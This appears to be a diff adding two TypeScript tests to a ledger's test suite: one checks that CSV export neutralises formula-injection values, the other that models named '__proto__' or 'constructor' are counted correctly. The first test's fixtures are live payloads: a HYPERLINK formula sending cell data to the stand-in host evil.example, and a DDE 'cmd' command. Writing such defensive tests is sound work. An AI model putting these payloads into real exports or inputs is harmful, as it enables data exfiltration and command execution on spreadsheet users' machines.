@@ -102,6 +102,34 @@ test('exports: CSV (escaped, formula-safe) and JSONL', async () => {
   });
 });
 
+test('CSV export: a customer-chosen model or user agent starting with "-<digit>" cannot become a spreadsheet formula', async () => {
+  await withLedger(async (ledger) => {
+    const model = '-1+HYPERLINK("https://evil.example/?"&A2,"click")';
+    const ua = "-2+3+cmd|' /C calc'!A0";
+    await ledger.appendInteraction(sampleEvent(1, { model, client: { ip: '203.0.113.9', user_agent: ua, country: 'NL', asn: -64500 } }));
+    const out = new PassThrough();
+    const chunks: Buffer[] = [];
+    out.on('data', (c) => chunks.push(c));
+    await exportQuery(await queryLedger(ledger.storage, {}), 'csv', out);
+    out.end();
+    const [header, row] = Buffer.concat(chunks).toString('utf8').split('\n');
+    const cols = header.split(',');
+    assert.ok(row.includes(`"'${model.replace(/"/g, '""')}"`), `the model cell is neutralised: ${row}`);
+    assert.ok(row.includes(`'${ua}`), `the user agent cell is neutralised: ${row}`);
+    assert.equal(row.split(',')[cols.indexOf('index')], '0', 'numbers are written as they are');
+    assert.ok(row.includes(',-64500,'), `negative numbers are not prefixed: ${row}`);
+  });
+});
+
+test('usage counts models named like Object.prototype members (constructor, toString, __proto__) as any other', async () => {
+  await withLedger(async (ledger) => {
+    for (const [i, model] of ['constructor', 'toString', '__proto__', 'toString'].entries()) await ledger.appendInteraction(sampleEvent(7 * i, { model }));
+    const { usage } = await queryLedger(ledger.storage, { accountId: 'acct_0' });
+    const models = JSON.parse(JSON.stringify(usage[0].models)) as Record<string, unknown>;
+    assert.deepEqual(models, JSON.parse('{"constructor":1,"toString":2,"__proto__":1}'), `every model counted as a number: ${JSON.stringify(models)}`);
+  });
+});
+
 test('HTTP: checkpoint is a signed note; proofs verify standalone; entries; query needs authorisation', async () => {
   await withLedger(async (ledger, _dir, vkey) => {
     const events = await populate(ledger);
